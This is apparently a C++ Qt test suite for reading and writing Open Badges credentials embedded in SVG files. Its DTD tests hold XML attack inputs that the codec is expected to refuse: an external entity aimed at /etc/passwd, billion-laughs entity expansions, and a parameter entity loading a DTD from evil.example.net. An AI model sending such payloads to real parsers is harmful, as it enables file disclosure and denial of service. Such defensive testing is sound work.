// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/codec/SvgBadge.h"
#include "tests/support/TestData.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace Credfolio;
using namespace Credfolio::Codec;

namespace {

const QByteArray kOb3Uri("https://purl.imsglobal.org/ob/v3p0");

QJsonArray bakedSvgEntries()
{
    const QJsonObject manifest =
        QJsonDocument::fromJson(Test::readData(QStringLiteral("corpus/manifest.json"))).object();
    QJsonArray entries;
    for (const QJsonValue &entry : manifest[QLatin1String("entries")].toArray()) {
        if (entry[QLatin1String("container")].toString() == QLatin1String("svg")) {
            entries.append(entry);
        }
    }
    return entries;
}

QByteArray withoutTrailingNewline(QByteArray bytes)
{
    if (bytes.endsWith('\n')) {
        bytes.chop(1);
    }
    return bytes;
}

QString errorText(const Result<std::optional<SvgBadge>> &result)
{
    return result.has_value() ? QString() : result.error().toString();
}

} // namespace

class TestSvgBadge : public QObject {
    Q_OBJECT

private slots:
    void corpus_data();
    void corpus();
    void openBadges2Baking();
    void unbaked();
    void matchesOnNamespaceNotPrefix();
    void dtdRefused_data();
    void dtdRefused();
    void deepBillionLaughsIsRefused();
    void malformed_data();
    void malformed();
    void malformedHasPosition();
    void notSvg();
    void utf16Document();
    void badgeWithChildElements();
    void depthLimit();
    void bakeRoundTrip_data();
    void bakeRoundTrip();
    void bakeKeepsTheRest();
    void bakeReplacesExisting();
    void bakeReusesOrPicksPrefix();
    void bakeSelfClosingRoot();
    void bakeKeepsBom();
    void bakeRefusals_data();
    void bakeRefusals();
};

void TestSvgBadge::corpus_data()
{
    QTest::addColumn<QJsonObject>("entry");
    const QJsonArray entries = bakedSvgEntries();
    QVERIFY(entries.size() >= 4);
    for (const QJsonValue &entry : entries) {
        QTest::newRow(qPrintable(entry[QLatin1String("file")].toString())) << entry.toObject();
    }
}

void TestSvgBadge::corpus()
{
    QFETCH(QJsonObject, entry);
    const QByteArray svg = Test::readData(QLatin1String("corpus/") + entry[QLatin1String("file")].toString());
    const QJsonObject embedded = entry[QLatin1String("embedded")].toObject();
    const QString uri = embedded[QLatin1String("namespace")].toString();
    const QString localName = embedded[QLatin1String("element")].toString().section(QLatin1Char(':'), -1);
    const Result<std::optional<SvgBadge>> found = findSvgBadge(svg, {uri, localName});
    QVERIFY2(found.has_value(), qPrintable(errorText(found)));
    QVERIFY(found->has_value());
    const SvgBadge &badge = **found;

    const QByteArray sameAs =
        withoutTrailingNewline(Test::readData(QLatin1String("corpus/") + embedded[QLatin1String("sameAs")].toString()));
    const QString format = embedded[QLatin1String("format")].toString();
    if (format == QLatin1String("vc-jwt") || format == QLatin1String("ob2-signed-jws")) {
        QVERIFY(badge.verify.has_value());
        QCOMPARE(badge.verify->toUtf8(), sameAs);
        QVERIFY(badge.isContentBlank());
    } else {
        QCOMPARE(badge.content.toUtf8(), sameAs); // byte-identical
        if (format == QLatin1String("ob2-hosted-json")) {
            // The hosted assertion names its URL in verify.
            QVERIFY(badge.verify.has_value());
            QCOMPARE(*badge.verify, QJsonDocument::fromJson(sameAs)[QLatin1String("id")].toString());
        }
    }
}

void TestSvgBadge::openBadges2Baking()
{
    const SvgBadgeElement ob2 = SvgElement::OpenBadges2Assertion;
    const auto read = [&](const char *file) {
        return findSvgBadge(Test::readData(QLatin1String("openbadges2-baking/") + QLatin1String(file)), ob2);
    };
    const Result<std::optional<SvgBadge>> example = read("concentricsky/baked_example.svg");
    QVERIFY(example.has_value() && example->has_value());
    QCOMPARE((*example)->verify, std::optional<QString>(QStringLiteral("https://example.org/assertion.json")));
    const QJsonObject assertion = QJsonDocument::fromJson((*example)->content.toUtf8()).object();
    QCOMPARE(assertion[QLatin1String("uid")].toString(), QStringLiteral("abcdef12345"));
    QCOMPARE(assertion[QLatin1String("verify")][QLatin1String("url")].toString(),
             QStringLiteral("https://example.org/assertion.json"));

    const Result<std::optional<SvgBadge>> baked = read("mozilla/baked.svg");
    QVERIFY(baked.has_value() && baked->has_value());
    QCOMPARE((*baked)->verify, std::optional<QString>(QStringLiteral("http://example.org")));
    QCOMPARE((*baked)->content.trimmed(), QStringLiteral("{\"verify\":{\"url\":\"http://example.org\"}}"));

    const Result<std::optional<SvgBadge>> noJson = read("mozilla/no-json.svg");
    QVERIFY(noJson.has_value() && noJson->has_value());
    QCOMPARE((*noJson)->verify, std::optional<QString>(QStringLiteral("http://example.org")));
    QVERIFY((*noJson)->isContentBlank());

    // The codec hands the text over unchanged; that it is not JSON is for the JSON layer to say.
    const Result<std::optional<SvgBadge>> badJson = read("mozilla/bad-json.svg");
    QVERIFY(badJson.has_value() && badJson->has_value());
    QCOMPARE((*badJson)->content.trimmed(), QStringLiteral("{verify:{\"url\":\"http://example.org\"}}"));
    QJsonParseError error{};
    QJsonDocument::fromJson((*badJson)->content.toUtf8(), &error);
    QVERIFY(error.error != QJsonParseError::NoError);
}

void TestSvgBadge::unbaked()
{
    for (const char *file : {"concentricsky/unbaked_example.svg", "mozilla/unbaked.svg"}) {
        const Result<std::optional<SvgBadge>> found =
            findSvgBadge(Test::readData(QLatin1String("openbadges2-baking/") + QLatin1String(file)),
                         SvgElement::OpenBadges2Assertion);
        QVERIFY2(found.has_value(), qPrintable(errorText(found)));
        QVERIFY(!found->has_value());
    }
    // An OB 2.0 image is not an OB 3.0 one.
    const Result<std::optional<SvgBadge>> other = findSvgBadge(
        Test::readData(QStringLiteral("openbadges2-baking/mozilla/baked.svg")), SvgElement::OpenBadges3Credential);
    QVERIFY(other.has_value() && !other->has_value());
}

void TestSvgBadge::matchesOnNamespaceNotPrefix()
{
    const QByteArray otherPrefix =
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:ob='" + kOb3Uri + "'><ob:credential verify='a.b.c'/></svg>";
    QCOMPARE(findSvgBadge(otherPrefix, SvgElement::OpenBadges3Credential)->value().verify,
             std::optional<QString>(QStringLiteral("a.b.c")));

    const QByteArray defaultNamespace =
        "<svg xmlns='http://www.w3.org/2000/svg'><credential xmlns='" + kOb3Uri + "'>{\"x\":1}</credential></svg>";
    QCOMPARE(findSvgBadge(defaultNamespace, SvgElement::OpenBadges3Credential)->value().content,
             QStringLiteral("{\"x\":1}"));

    // The usual prefix bound to another URI is not the badge; nor is the right name without a namespace.
    const QByteArray impostor = "<svg xmlns='http://www.w3.org/2000/svg' "
                                "xmlns:openbadges='https://evil.example.net/ob'>"
                                "<openbadges:credential verify='forged'/><credential verify='forged'/>"
                                "<openbadges:credential xmlns:openbadges='" +
                                kOb3Uri + "' verify='real'/></svg>";
    QCOMPARE(findSvgBadge(impostor, SvgElement::OpenBadges3Credential)->value().verify,
             std::optional<QString>(QStringLiteral("real")));

    // OB 3.0 and CLR share the local name "credential".
    const QByteArray clr = "<svg xmlns:clr='https://purl.imsglobal.org/clr/v2p0'><clr:credential>c</clr:credential>"
                           "</svg>";
    QVERIFY(!findSvgBadge(clr, SvgElement::OpenBadges3Credential)->has_value());
    QCOMPARE(findSvgBadge(clr, SvgElement::ClrCredential)->value().content, QStringLiteral("c"));

    // A namespaced attribute called verify is not the verify attribute.
    const QByteArray nsAttribute = "<svg xmlns:o='" + kOb3Uri + "'><o:credential o:verify='x'/></svg>";
    QVERIFY(!findSvgBadge(nsAttribute, SvgElement::OpenBadges3Credential)->value().verify.has_value());
}

void TestSvgBadge::dtdRefused_data()
{
    QTest::addColumn<QByteArray>("svg");
    QTest::newRow("external entity") << QByteArray(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"http://openbadges.org\">"
        "<openbadges:assertion verify=\"u\">&x;</openbadges:assertion></svg>");
    QByteArray laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n<!ENTITY lol \"lol\">\n";
    laughs += "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n";
    for (int i = 2; i <= 9; ++i) {
        QByteArray line = "<!ENTITY lol" + QByteArray::number(i) + " \"";
        for (int j = 0; j < 10; ++j) {
            line += "&lol" + QByteArray::number(i - 1) + ";";
        }
        laughs += line + "\">\n";
    }
    laughs += "]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"http://openbadges.org\">"
              "<openbadges:assertion>&lol9;</openbadges:assertion></svg>";
    QTest::newRow("billion laughs") << laughs;
    QTest::newRow("public SVG 1.1 DTD") << QByteArray(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
        "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
    QTest::newRow("parameter entity") << QByteArray(
        "<!DOCTYPE svg [<!ENTITY % p SYSTEM \"http://evil.example.net/x.dtd\"> %p;]><svg/>");
    QTest::newRow("entity in attribute") << QByteArray(
        "<!DOCTYPE svg [<!ENTITY v \"injected\">]><svg xmlns:openbadges=\"http://openbadges.org\">"
        "<openbadges:assertion verify=\"&v;\"/></svg>");
}

void TestSvgBadge::dtdRefused()
{
    QFETCH(QByteArray, svg);
    const Result<std::optional<SvgBadge>> found = findSvgBadge(svg, SvgElement::OpenBadges2Assertion);
    QVERIFY(!found.has_value());
    QCOMPARE(found.error().code, QStringLiteral("codec.svg-dtd-refused"));
    QVERIFY(found.error().message.contains(QLatin1String("DTD")));
    const Result<QByteArray> baked = bakeSvgBadge(svg, SvgElement::OpenBadges2Assertion, {QStringLiteral("x"), {}});
    QVERIFY(!baked.has_value());
    QCOMPARE(baked.error().code, QStringLiteral("codec.svg-dtd-refused"));
}

void TestSvgBadge::deepBillionLaughsIsRefused()
{
    // Deeper than the classic one: expansion would be 10^15 characters. It is refused for its DTD, without
    // expanding anything (BM_ExtractSvgBillionLaughs in bench/codec measures the cost of refusing it).
    QByteArray laughs = "<!DOCTYPE svg [<!ENTITY a0 \"ha\">";
    for (int i = 1; i <= 15; ++i) {
        QByteArray line = "<!ENTITY a" + QByteArray::number(i) + " \"";
        for (int j = 0; j < 10; ++j) {
            line += "&a" + QByteArray::number(i - 1) + ";";
        }
        laughs += line + "\">";
    }
    laughs += "]><svg><x>&a15;</x></svg>";
    const Result<std::optional<SvgBadge>> found = findSvgBadge(laughs, SvgElement::OpenBadges2Assertion);
    QVERIFY(!found.has_value());
    QCOMPARE(found.error().code, QStringLiteral("codec.svg-dtd-refused"));
    const Result<QByteArray> baked = bakeSvgBadge(laughs, SvgElement::OpenBadges2Assertion, {QStringLiteral("x"), {}});
    QVERIFY(!baked.has_value());
    QCOMPARE(baked.error().code, QStringLiteral("codec.svg-dtd-refused"));
}

void TestSvgBadge::malformed_data()
{
    QTest::addColumn<QByteArray>("svg");
    QTest::newRow("empty") << QByteArray();
    QTest::newRow("unclosed") << QByteArray("<svg><g></svg>");
    QTest::newRow("truncated") << Test::readData(QStringLiteral("corpus/baked/ob3-di-rdfc.svg")).first(2000);
    QTest::newRow("two roots") << QByteArray("<svg/><svg/>");
    QTest::newRow("unbound prefix") << QByteArray("<svg><openbadges:assertion/></svg>");
    QTest::newRow("duplicate attribute") << QByteArray("<svg a='1' a='2'/>");
    QTest::newRow("undeclared entity") << QByteArray("<svg>&nbsp;</svg>");
    QTest::newRow("bad UTF-8") << QByteArray("<svg>caf\xe9</svg>");
    QTest::newRow("text outside root") << QByteArray("hello <svg/>");
    QTest::newRow("a PNG") << Test::readData(QStringLiteral("openbadges2-baking/mozilla/unbaked.png"));
    // Qt's reader would stop at a NUL and take the document as complete (found by fuzzing).
    QTest::newRow("NUL in a name") << QByteArray("<svg xmlns:ope\0ges='x'><g/></svg>", 33);
    QTest::newRow("NUL after root") << QByteArray("<svg/>\0<", 8);
    QTest::newRow("UTF-16 with NUL") << QByteArray("\xFF\xFE<\0s\0v\0g\0/\0>\0\0\0", 16);
}

void TestSvgBadge::malformed()
{
    QFETCH(QByteArray, svg);
    const Result<std::optional<SvgBadge>> found = findSvgBadge(svg, SvgElement::OpenBadges2Assertion);
    QVERIFY(!found.has_value());
    QCOMPARE(found.error().code, QStringLiteral("codec.svg-malformed"));
    QVERIFY(!found.error().message.isEmpty());
    QVERIFY2(found.error().detail.contains(QLatin1String("line")), qPrintable(found.error().detail));
}

void TestSvgBadge::malformedHasPosition()
{
    const Result<std::optional<SvgBadge>> found =
        findSvgBadge("<svg>\n  <g>\n    <rect>\n  </g>\n</svg>", SvgElement::OpenBadges2Assertion);
    QVERIFY(!found.has_value());
    QCOMPARE(found.error().code, QStringLiteral("codec.svg-malformed"));
    QVERIFY2(found.error().detail.startsWith(QLatin1String("line 4, column")), qPrintable(found.error().detail));
}

void TestSvgBadge::notSvg()
{
    const Result<std::optional<SvgBadge>> found =
        findSvgBadge("<html xmlns:openbadges='http://openbadges.org'><openbadges:assertion verify='x'/></html>",
                     SvgElement::OpenBadges2Assertion);
    QVERIFY(!found.has_value());
    QCOMPARE(found.error().code, QStringLiteral("codec.svg-not-svg"));
    QVERIFY(found.error().message.contains(QLatin1String("html")));
}

void TestSvgBadge::utf16Document()
{
    const QString text = QStringLiteral("<svg xmlns:openbadges='http://openbadges.org'>"
                                        "<openbadges:assertion verify='\u00e9'/></svg>");
    QByteArray utf16("\xFF\xFE", 2);
    for (const QChar c : text) {
        utf16.append(static_cast<char>(c.unicode() & 0xff));
        utf16.append(static_cast<char>(c.unicode() >> 8));
    }
    const Result<std::optional<SvgBadge>> found = findSvgBadge(utf16, SvgElement::OpenBadges2Assertion);
    QVERIFY2(found.has_value(), qPrintable(errorText(found)));
    QCOMPARE(found->value().verify, std::optional<QString>(QStringLiteral("\u00e9")));
    // Read, but not baked: only UTF-8 documents are rewritten.
    QCOMPARE(bakeSvgBadge(utf16, SvgElement::OpenBadges2Assertion, {}).error().code,
             QStringLiteral("codec.svg-unsupported-encoding"));
}

void TestSvgBadge::badgeWithChildElements()
{
    const Result<std::optional<SvgBadge>> found =
        findSvgBadge("<svg xmlns:o='http://openbadges.org'><o:assertion>{<g/>}</o:assertion></svg>",
                     SvgElement::OpenBadges2Assertion);
    QVERIFY(!found.has_value());
    QCOMPARE(found.error().code, QStringLiteral("codec.svg-bad-badge"));
}

void TestSvgBadge::depthLimit()
{
    const QByteArray deep = "<svg>" + QByteArray("<g>").repeated(5000) + QByteArray("</g>").repeated(5000) + "</svg>";
    const Result<std::optional<SvgBadge>> found = findSvgBadge(deep, SvgElement::OpenBadges2Assertion);
    QVERIFY(!found.has_value());
    QCOMPARE(found.error().code, QStringLiteral("codec.too-large"));
    const QByteArray shallow = "<svg>" + QByteArray("<g>").repeated(100) + QByteArray("</g>").repeated(100) + "</svg>";
    QVERIFY(findSvgBadge(shallow, SvgElement::OpenBadges2Assertion).has_value());
}

void TestSvgBadge::bakeRoundTrip_data()
{
    QTest::addColumn<QString>("image");
    QTest::addColumn<std::optional<QString>>("verify");
    QTest::addColumn<QString>("content");
    const QString credential =
        QString::fromUtf8(withoutTrailingNewline(Test::readData(QStringLiteral("corpus/ob3/di-rdfc-valid.json"))));
    const QString jwt =
        QString::fromUtf8(withoutTrailingNewline(Test::readData(QStringLiteral("corpus/ob3-jwt/jwt-eddsa-valid.jwt"))));
    const QString unbaked = QStringLiteral("openbadges2-baking/concentricsky/unbaked_example.svg");
    const QString mozilla = QStringLiteral("openbadges2-baking/mozilla/unbaked.svg");
    const QString baked = QStringLiteral("corpus/baked/ob3-di-rdfc.svg");
    QTest::newRow("JSON in CDATA") << unbaked << std::optional<QString>() << credential;
    QTest::newRow("JWS in verify") << mozilla << std::optional<QString>(jwt) << QString();
    QTest::newRow("replace JSON with JWS") << baked << std::optional<QString>(jwt) << QString();
    QTest::newRow("both") << mozilla << std::optional<QString>(QStringLiteral("https://example.org/a.json"))
                          << credential;
    QTest::newRow("CDATA terminator inside")
        << unbaked << std::optional<QString>() << QStringLiteral("{\"a\":\"]]>\",\"b\":\"]]]]>>\",\"c\":\"]]\"}]]>");
    QTest::newRow("markup and line ends") << unbaked << std::optional<QString>(QStringLiteral("a\"b&c<d>\te\r\nf"))
                                          << QStringLiteral("<&amp;>\r\n\r \n\t \u00e9\u2713\U0001F393");
    QTest::newRow("whitespace only") << unbaked << std::optional<QString>(QString()) << QStringLiteral("  \n ");
    QTest::newRow("nothing") << unbaked << std::optional<QString>() << QString();
}

void TestSvgBadge::bakeRoundTrip()
{
    QFETCH(QString, image);
    QFETCH(std::optional<QString>, verify);
    QFETCH(QString, content);
    const SvgBadgeElement element = SvgElement::OpenBadges3Credential;
    const Result<QByteArray> baked = bakeSvgBadge(Test::readData(image), element, {verify, content});
    QVERIFY2(baked.has_value(), qPrintable(baked.has_value() ? QString() : baked.error().toString()));
    const Result<std::optional<SvgBadge>> found = findSvgBadge(*baked, element);
    QVERIFY2(found.has_value(), qPrintable(errorText(found)));
    QVERIFY(found->has_value());
    QCOMPARE((*found)->verify, verify);
    QCOMPARE((*found)->content, content);
    QCOMPARE(baked->count("<openbadges:credential"), 1);
    // Baking again with the same badge is stable.
    QCOMPARE(bakeSvgBadge(*baked, element, {verify, content}).value(), *baked);
}

void TestSvgBadge::bakeKeepsTheRest()
{
    const QByteArray original = Test::readData(QStringLiteral("openbadges2-baking/mozilla/unbaked.svg"));
    const Result<QByteArray> baked =
        bakeSvgBadge(original, SvgElement::OpenBadges3Credential, {std::nullopt, QStringLiteral("{}")});
    QVERIFY(baked.has_value());
    const QByteArray declaration = " xmlns:openbadges=\"" + kOb3Uri + "\"";
    const QByteArray element = "<openbadges:credential><![CDATA[{}]]></openbadges:credential>";
    // The badge is the first child of the root, and the namespace is declared on the root.
    QVERIFY(baked->contains(QByteArray("viewBox=\"0 0 512 512\"" + declaration + ">" + element + "\n  <title>")));
    QByteArray stripped = *baked;
    stripped.replace(declaration, "").replace(element, "");
    QCOMPARE(stripped, original);
}

void TestSvgBadge::bakeReplacesExisting()
{
    const QByteArray original = Test::readData(QStringLiteral("corpus/baked/ob3-di-rdfc.svg"));
    const Result<QByteArray> baked =
        bakeSvgBadge(original, SvgElement::OpenBadges3Credential, {QStringLiteral("x.y.z"), QString()});
    QVERIFY(baked.has_value());
    QCOMPARE(baked->count("xmlns:openbadges="), 1);
    QCOMPARE(baked->count("credential"), 2); // the start and end tags of the one badge
    QVERIFY(baked->contains("<openbadges:credential verify=\"x.y.z\"></openbadges:credential>"));
    QVERIFY(baked->contains("<title>Open Badge</title>"));
    QVERIFY(baked->endsWith(original.sliced(original.indexOf("\n  <title>"))));

    // An OB 2.0 badge next to it stays.
    const QByteArray ob2 = Test::readData(QStringLiteral("openbadges2-baking/mozilla/baked.svg"));
    const QByteArray both =
        bakeSvgBadge(ob2, SvgElement::OpenBadges3Credential, {std::nullopt, QStringLiteral("{}")}).value();
    QVERIFY(findSvgBadge(both, SvgElement::OpenBadges2Assertion)->has_value());
    QVERIFY(findSvgBadge(both, SvgElement::OpenBadges3Credential)->has_value());
}

void TestSvgBadge::bakeReusesOrPicksPrefix()
{
    const QByteArray declared = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:ob='" + kOb3Uri + "'><g/></svg>";
    const QByteArray reused =
        bakeSvgBadge(declared, SvgElement::OpenBadges3Credential, {std::nullopt, QStringLiteral("1")}).value();
    QCOMPARE(reused, "<svg xmlns='http://www.w3.org/2000/svg' xmlns:ob='" + kOb3Uri +
                         "'><ob:credential><![CDATA[1]]></ob:credential><g/></svg>");

    // "openbadges" is taken by the OB 2.0 namespace: another prefix is declared.
    const QByteArray ob2 = Test::readData(QStringLiteral("openbadges2-baking/mozilla/no-json.svg"));
    const QByteArray baked =
        bakeSvgBadge(ob2, SvgElement::OpenBadges3Credential, {std::nullopt, QStringLiteral("2")}).value();
    QVERIFY(baked.contains(QByteArray("xmlns:openbadges2=\"" + kOb3Uri + "\"")));
    QCOMPARE(findSvgBadge(baked, SvgElement::OpenBadges3Credential)->value().content, QStringLiteral("2"));
    QCOMPARE(findSvgBadge(baked, SvgElement::OpenBadges2Assertion)->value().verify,
             std::optional<QString>(QStringLiteral("http://example.org")));
}

void TestSvgBadge::bakeSelfClosingRoot()
{
    const QByteArray baked = bakeSvgBadge("<svg xmlns=\"http://www.w3.org/2000/svg\" />", SvgElement::ClrCredential,
                                          {std::nullopt, QStringLiteral("{}")})
                                 .value();
    QCOMPARE(baked,
             QByteArray("<svg xmlns=\"http://www.w3.org/2000/svg\"  xmlns:openbadges=\"https://purl.imsglobal.org/"
                        "clr/v2p0\"><openbadges:credential><![CDATA[{}]]></openbadges:credential></svg>"));
    QCOMPARE(findSvgBadge(baked, SvgElement::ClrCredential)->value().content, QStringLiteral("{}"));
}

void TestSvgBadge::bakeKeepsBom()
{
    const QByteArray original = "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<svg>\u00e9</svg>";
    const QByteArray baked =
        bakeSvgBadge(original, SvgElement::OpenBadges2Assertion, {QStringLiteral("u"), {}}).value();
    QVERIFY(baked.startsWith("\xEF\xBB\xBF<?xml"));
    QVERIFY(baked.endsWith("</openbadges:assertion>\u00e9</svg>"));
    QCOMPARE(findSvgBadge(baked, SvgElement::OpenBadges2Assertion)->value().verify,
             std::optional<QString>(QStringLiteral("u")));
}

void TestSvgBadge::bakeRefusals_data()
{
    QTest::addColumn<QByteArray>("svg");
    QTest::addColumn<SvgBadge>("badge");
    QTest::addColumn<QString>("code");
    const QByteArray svg("<svg/>");
    const SvgBadge ok{std::nullopt, QStringLiteral("{}")};
    QTest::newRow("control character") << svg << SvgBadge{std::nullopt, QStringLiteral("a\u0001b")}
                                       << QStringLiteral("codec.svg-bad-payload");
    QTest::newRow("NUL in verify") << svg << SvgBadge{QString(QChar(0)), QString()}
                                   << QStringLiteral("codec.svg-bad-payload");
    QTest::newRow("lone surrogate") << svg << SvgBadge{std::nullopt, QString(QChar(0xD800))}
                                    << QStringLiteral("codec.svg-bad-payload");
    QTest::newRow("U+FFFF") << svg << SvgBadge{std::nullopt, QString(QChar(0xFFFF))}
                            << QStringLiteral("codec.svg-bad-payload");
    QTest::newRow("Latin-1 document") << QByteArray("<?xml version='1.0' encoding='ISO-8859-1'?><svg>\xe9</svg>") << ok
                                      << QStringLiteral("codec.svg-unsupported-encoding");
    QTest::newRow("malformed") << QByteArray("<svg>") << ok << QStringLiteral("codec.svg-malformed");
    QTest::newRow("not svg") << QByteArray("<html/>") << ok << QStringLiteral("codec.svg-not-svg");
}

void TestSvgBadge::bakeRefusals()
{
    QFETCH(QByteArray, svg);
    QFETCH(SvgBadge, badge);
    QFETCH(QString, code);
    const Result<QByteArray> baked = bakeSvgBadge(svg, SvgElement::OpenBadges3Credential, badge);
    QVERIFY(!baked.has_value());
    QCOMPARE(baked.error().code, code);
    QVERIFY(!baked.error().message.isEmpty());
}

QTEST_GUILESS_MAIN(TestSvgBadge)
#include "TestSvgBadge.moc"
